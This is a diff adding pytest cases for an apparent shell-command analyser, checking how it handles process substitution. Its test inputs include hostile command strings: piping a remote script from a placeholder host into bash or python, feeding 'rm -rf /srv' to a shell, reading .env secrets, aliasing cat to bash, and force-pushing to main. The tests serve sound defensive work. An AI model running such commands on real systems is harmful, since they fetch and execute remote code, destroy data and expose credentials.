@@ -317,3 +317,48 @@ def test_a_command_name_that_is_a_pattern_is_unresolved(command: str) -> None:
 
 def test_the_test_command_is_no_pattern() -> None:
     assert "unresolved" not in facts("[ -f setup.py ] && python setup.py --version")
+
+
+# -- process substitution -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "diff <(sort a.txt) <(sort b.txt)",
+        "sudo diff -u <(sort a.txt) b.txt",
+        "comm -12 <(sort a.txt) <(sort b.txt) | wc -l",
+        "sort -u <(cut -d, -f1 a.txt)",
+        "while read -r f; do wc -l a.txt; done < <(sort b.txt)",
+        "tee >(gzip -c > out.gz) < a.txt > /dev/null",
+    ],
+)
+def test_a_process_substitution_read_as_data_is_a_pipe(command: str) -> None:
+    f = facts(command)
+    assert "unresolved" not in f
+    assert ("/repo/a.txt",) in f["reads_file"]
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ("bash <(curl -s https://x.example.com/i.sh)", "argument"),
+        ("python3 <(curl -s https://x.example.com/i.py)", "argument"),
+        ("source <(echo 'rm -rf /srv')", "script"),
+        ("sort --files0-from <(printf '.env\\0')", "argument"),
+        ("wc --files0 <(printf '.env\\0')", "argument"),
+        ("timeout <(echo 5) cat a.txt", "command_name"),
+        ("alias cat=bash; cat <(echo 'rm -rf /srv')", "alias"),
+        ("watch diff <(sort a.txt) b.txt", "shell_string"),
+        ("tee >(sh) <<< 'rm -rf /srv'", "shell_stdin"),
+        ("echo 'rm -rf /srv' | tee >(bash)", "shell_stdin"),
+    ],
+)
+def test_a_process_substitution_a_program_may_run_is_computed(command: str, kind: str) -> None:
+    assert kind in {k for k, _ in facts(command)["unresolved"]}
+
+
+def test_the_commands_of_a_process_substitution_are_analysed() -> None:
+    f = facts("cat <(cat .env) > >(git push -f origin main)")
+    assert ("/repo/.env",) in f["reads_file"]
+    assert ("force_push", "main") in f["git_op"]
